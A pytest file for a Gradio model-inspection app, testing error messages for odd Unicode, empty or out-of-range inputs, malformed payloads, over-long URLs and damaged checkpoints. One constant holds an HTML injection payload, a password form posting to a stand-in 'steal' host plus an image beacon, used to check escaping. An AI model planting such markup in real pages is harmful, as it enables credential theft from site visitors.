"""Inputs nobody planned for: each gets a clear message (or a sane result), and the next request works."""

import http.client
import json
import logging
import re
import shutil
import socket
import urllib.parse
import urllib.request
from types import SimpleNamespace

import httpx
import pytest
from gradio.context import LocalContext
from gradio_client import Client

import diffllama
from components import errors, model_slots, safe_text

ODD_TEXTS = {
    "emoji": "Anna 😀 went to Paris 🇫🇷 with Bob 👍🏽.",
    "right-to-left": "مرحبا Anna שלום went to Lyon.",
    "combining marks": "Zoë and Ame\u0301lie met in Zu\u0308rich.",
    "control characters and NUL": "Anna\x00 went\x07 to\tLyon\r\n\x1b[31m.",
    "only punctuation": "?!...,;",
}


@pytest.fixture(scope="module")
def client(app_url):
    return Client(app_url, verbose=False)


def works(client):
    label, *_ = client.predict("Bob met Clara.", "diffllama-cls", "llama-cls", api_name="/classify")
    assert label["label"] in ("negative", "positive")


@pytest.mark.parametrize("name", list(ODD_TEXTS))
def test_odd_text_runs_every_task_with_consistent_offsets(checkpoint, name):
    text = ODD_TEXTS[name]
    tagger = diffllama.load(checkpoint("diffllama-gqa", "tagging"))
    result = tagger.tag(text)
    assert all(text[t.start:t.end] == t.token for t in result.tokens)
    assert all(text[e.start:e.end] == e.text for e in result.entities)
    qa = diffllama.load(checkpoint("llama-gqa", "qa"))
    for span in qa.answer("Where?", text).spans:
        assert text[span.start:span.end] == span.text
    stream = diffllama.load(checkpoint("persimmon")).generate(text, max_new_tokens=3, greedy=True)
    assert "".join(stream) == stream.result.text


@pytest.mark.parametrize("name", list(ODD_TEXTS))
def test_odd_text_through_the_api(client, name):
    client.predict(ODD_TEXTS[name], "diffllama-tag", "llama-tag", api_name="/tag")
    client.predict("Where?", ODD_TEXTS[name], 3, "diffllama-qa", "llama-qa", api_name="/answer")
    works(client)


BAD_REQUESTS = [  # (what, api_name, args, message)
    ("empty text", "/classify", ("", "diffllama-cls", "llama-cls"), "the text is empty"),
    ("whitespace prompt", "/generate", (" \n\t", 4, True, 1.0, 1.0, 0, "diffllama-lm", "llama-lm"), "the prompt is empty"),
    ("empty question", "/answer", ("  ", "Bob met Clara.", 3, "diffllama-qa", "llama-qa"), "the question is empty"),
    ("empty context", "/answer", ("Who?", "", 3, "diffllama-qa", "llama-qa"), "the context is empty"),
    ("question longer than the model takes", "/answer", ("why " * 400, "Bob met Clara.", 3, "diffllama-qa", "llama-qa"),
     "keep it under"),
    ("model outside the allowed directories", "/tag", ("Bob", "/no/such/dir", "llama-tag"), "is not a model this server loads"),
    ("model of the wrong task", "/tag", ("Bob", "diffllama-lm", "llama-tag"), "missing or mis-shaped"),
    ("sampling settings out of range", "/generate", ("Hi", 4, False, 0.0, 1.0, 0, "diffllama-lm", "llama-lm"),
     "temperature is 0.0; it takes a number from 0.1 to 2"),
]
MAP = ("Bob met Clara.", "", "diffllama-cls", "classification")
GENERATE = ("Anna walked to", 4, True, 0.8, 0.95)
UNCLEAR_REQUESTS = [  # (what, api_name, args, message): each names the parameter and what it takes
    ("map size -1", "/attention_map", (*MAP, 0, 0, "diff", -1, "weight"), "size is -1; it takes a whole number of blocks, at least 1"),
    ("map size None", "/attention_map", (*MAP, 0, 0, "diff", None, "weight"), "size is None; it takes a whole number"),
    ("map layer None", "/attention_map", (*MAP, None, 0, "diff", 64, "weight"), "layer is None; it takes a whole number"),
    ("map task bogus", "/attention_map", (*MAP[:3], "bogus", 0, 0, "diff", 64, "weight"),
     "task is 'bogus'; it takes one of: 'generation', 'classification', 'qa', 'tagging'"),
    ("span null", "/attention_to_span", (*MAP, None, ""), "span is None; it takes text"),
    ("continuation None", "/attention_to_span", (*MAP, "Bob", "", "", -1, None), "continuation is None; it takes text"),
    ("continuation to a classifier", "/attention_to_span", (*MAP, "Bob", "", "", -1, " and then"),
     "continuation: only a language model continues a prompt (task \"generation\", text_pair \"\"); got task 'classification'"),
    ("seed None", "/generate", (*GENERATE, None, "diffllama-lm", "llama-lm"), "seed is None; it takes a whole number"),
    ("seed 2**70", "/generate", (*GENERATE, 2 ** 70, "diffllama-lm", "llama-lm"),
     "seed is 1180591620717411303424; it takes a whole number between -2**53 and 2**53"),
    ("slider given text", "/generate", ("Anna", "lots", True, 0.8, 0.95, 0, "diffllama-lm", "llama-lm"),
     "max_new_tokens is 'lots'; it takes a whole number from 1 to 256"),
    ("slider given None", "/generate", ("Anna", 4, True, None, 0.95, 0, "diffllama-lm", "llama-lm"),
     "temperature is None; it takes a number from 0.1 to 2"),
    ("checkbox given text", "/generate", ("Anna", 4, "yes", 0.8, 0.95, 0, "diffllama-lm", "llama-lm"),
     "greedy is 'yes'; it takes true or false"),
    ("choice not offered", "/tag_overview", ("A", "diff", "bogus", "layer × head"), "measure is 'bogus'; it takes one of"),
]


@pytest.mark.parametrize("what, api_name, args, message", BAD_REQUESTS, ids=[b[0] for b in BAD_REQUESTS])
def test_bad_requests_get_clear_messages(client, what, api_name, args, message):
    with pytest.raises(Exception, match=message):
        client.predict(*args, api_name=api_name)
    works(client)


@pytest.mark.parametrize("what, api_name, args, message", UNCLEAR_REQUESTS, ids=[b[0] for b in UNCLEAR_REQUESTS])
def test_unclear_inputs_get_messages_naming_the_parameter(client, what, api_name, args, message):
    with pytest.raises(Exception, match=re.escape(message)):
        client.predict(*args, api_name=api_name)
    works(client)


def post(app_url, api_name, body: str):
    request = urllib.request.Request(app_url + "gradio_api/call/" + api_name, data=body.encode(),
                                     headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=120) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def test_raw_requests_get_messages_naming_the_parameter(app_url, client):
    # NaN is not JSON, but Python's json (and gradio's) reads it
    status, text = post(app_url, "generate", '{"data": ["Anna", 4, true, 0.8, 0.95, NaN, "diffllama-lm", "llama-lm"]}')
    assert status == 422 and "seed is nan; it takes a whole number" in text
    status, text = post(app_url, "classify", '{"data": ["Bob"]}')  # gradio would answer {"error": null}
    assert status == 422 and "missing source_a, source_b: this endpoint takes 3 values (text, source_a, source_b)" in text
    status, text = post(app_url, "attention_map", json.dumps({"data": ["x" * 200_000, *MAP[1:], 0, 0, "diff", 64, "weight"]}))
    assert status == 422 and "the text is 200,000 characters long" in text and '"parameter_name":"text"' in text
    works(client)


@pytest.mark.parametrize("piece", [None, 4096], ids=["in-one-write", "in-4-KiB-writes"])
def test_an_over_long_address_gets_a_refusal_page(app_url, client, piece):
    """Gradio answers a 100 KB address with HTTP 500; uvicorn's parser, when the address arrives in several reads,
    with a bare 400 (``server.MAX_REQUEST_HEAD_BYTES``). Sent in small writes, the server reads it in pieces."""
    host, port = urllib.parse.urlsplit(app_url).netloc.split(":")
    head = f"GET /?tab=classification&text={'a' * 100_000} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    with socket.create_connection((host, int(port)), timeout=120) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for start in range(0, len(head), piece or len(head)):
            connection.sendall(head[start:start + (piece or len(head))])
        response = http.client.HTTPResponse(connection)
        response.begin()
        page = response.read().decode()
    assert response.status == 414 and "This link cannot be opened" in page and "100,0" in page
    works(client)


def test_a_user_error_is_one_log_line_without_a_traceback(client, capfd, caplog):
    capfd.readouterr()
    with caplog.at_level(logging.INFO, logger="diffllama_lens"), pytest.raises(Exception, match="the text is empty"):
        client.predict("   ", "diffllama-cls", "llama-cls", api_name="/classify")
    printed = capfd.readouterr()
    assert "Traceback" not in printed.err + printed.out
    assert [r.getMessage() for r in caplog.records if "the text is empty" in r.getMessage()] == \
        ["classify: the text is empty: type something to run the model on"]


# --- visitors' text on the page: escaped in toasts, plain for API clients ---------------------------
MARKUP = '<form action="http://elsewhere.test/steal"><input name=p type=password></form><img src=http://elsewhere.test/i.png>'


def test_a_message_for_the_page_is_escaped_and_plain_for_an_api_client(monkeypatch):
    error = ValueError(f"link parameter 'layer' is {MARKUP!r}; write a whole number")
    page = errors.message(error, "test", html=True)
    assert "<" not in page and "&lt;form action=&quot;http://elsewhere.test/steal&quot;&gt;" in page
    assert errors.message(error, "test") == str(error)
    join = "http://127.0.0.1:7860/gradio_api/queue/join"
    for request, on_page in ((SimpleNamespace(url=join, headers={}), True),
                             (SimpleNamespace(url=join, headers={"x-gradio-user": "api"}), False),
                             (SimpleNamespace(url=join, headers={"x-gradio-user": "mcp"}), False),  # gradio's MCP server
                             (SimpleNamespace(url="http://127.0.0.1:7860/gradio_api/call/classify", headers={}), False),
                             (SimpleNamespace(url="http://127.0.0.1:7860/gradio_api/mcp/", headers={}), False),
                             (None, False)):
        token = LocalContext.request.set(request)
        try:
            assert errors.from_page() is on_page
        finally:
            LocalContext.request.reset(token)


def test_an_api_client_reads_markup_it_sent_as_it_sent_it(client):
    with pytest.raises(Exception) as refused:
        client.predict("Bob met Clara.", "", "diffllama-cls", "classification", MARKUP, "", api_name="/attention_to_span")
    assert MARKUP in str(refused.value) and "&lt;" not in str(refused.value)


def test_a_toast_for_the_page_is_escaped(app_url, app_demo):
    """As gradio's page calls an event (a queue join, no API header): the error it shows as HTML."""
    span = next(fn for fn in app_demo.fns.values() if fn.api_name == "attention_to_span")
    body = {"data": [*MAP, MARKUP, "", "", -1, ""], "fn_index": span._id, "session_hash": "a-page", "event_data": None, "trigger_id": None}
    assert httpx.post(app_url + "gradio_api/queue/join", json=body, timeout=120).status_code == 200
    with httpx.stream("GET", app_url + "gradio_api/queue/data", params={"session_hash": "a-page"}, timeout=120) as stream:
        completed = next(line for line in stream.iter_lines() if "process_completed" in line)
    error = json.loads(completed.removeprefix("data:"))["output"]["error"]
    assert "does not occur" in error and "&lt;form action=&quot;http://elsewhere.test/steal&quot;&gt;" in error
    assert "<" not in error


def test_a_refused_model_slot_warns_with_the_source_escaped(monkeypatch):
    shown = []
    monkeypatch.setattr(model_slots.gr, "Warning", shown.append)
    kept = model_slots.load_slot("classification")(MARKUP, "diffllama-cls")
    assert kept[0] == "diffllama-cls" and len(shown) == 1
    assert "<" not in shown[0] and "&lt;img src=http://elsewhere.test/i.png&gt;" in shown[0]


def test_markdown_code_spans_cannot_be_closed_by_the_text():
    assert safe_text.markdown_code("a`b") == "`` a`b ``"
    assert safe_text.markdown_code("x ``` y") == "```` x ``` y ````"
    assert safe_text.markdown_code("<b>") == "`<b>`"  # inside a code span Markdown shows HTML as text


def test_views_before_any_run_and_out_of_range_indices(app_url):
    fresh = Client(app_url, verbose=False)  # a new session: no run yet
    with pytest.raises(Exception, match="run the tab first"):
        fresh.predict("A", 0, 0, "diff", 64, api_name="/tag_attention")
    fresh.predict("Bob met Clara.", "diffllama-tag", "llama-tag", api_name="/tag")
    with pytest.raises(Exception, match="head 7 is out of range"):
        fresh.predict("A", 0, 7, "diff", 64, api_name="/tag_attention")
    with pytest.raises(Exception, match="λ ablation needs a DiffLlama; this is a llama model"):
        fresh.predict("B", 0.0, api_name="/tag_ablation")
    with pytest.raises(Exception, match="λ ablation needs a DiffLlama"):
        fresh.predict("Bob met Clara.", "llama-tag", "llama-tag", api_name="/tag")
        fresh.predict("A", 0.0, api_name="/tag_ablation")
    works(fresh)


def test_malformed_payloads_are_rejected_and_serving_continues(app_url, client):
    for payload in (b"{not json", json.dumps({"data": "not a list"}).encode(), json.dumps({"data": [1, 2]}).encode()):
        request = urllib.request.Request(app_url + "gradio_api/call/classify", data=payload,
                                         headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                event = json.loads(response.read())["event_id"]
            with urllib.request.urlopen(f"{app_url}gradio_api/call/classify/{event}", timeout=30) as response:
                assert b"error" in response.read()
        except urllib.error.HTTPError as error:
            assert 400 <= error.code < 500
    works(client)


def test_damaged_checkpoint_in_a_slot(tmp_path, checkpoint, client):
    damaged = tmp_path / "damaged"
    shutil.copytree(checkpoint("llama-gqa", "classification"), damaged)
    (damaged / "model.safetensors").write_bytes(b"\0" * 100)
    with pytest.raises(Exception, match="corrupted or truncated"):
        client.predict("Bob", "diffllama-cls", str(damaged), api_name="/classify")
    works(client)
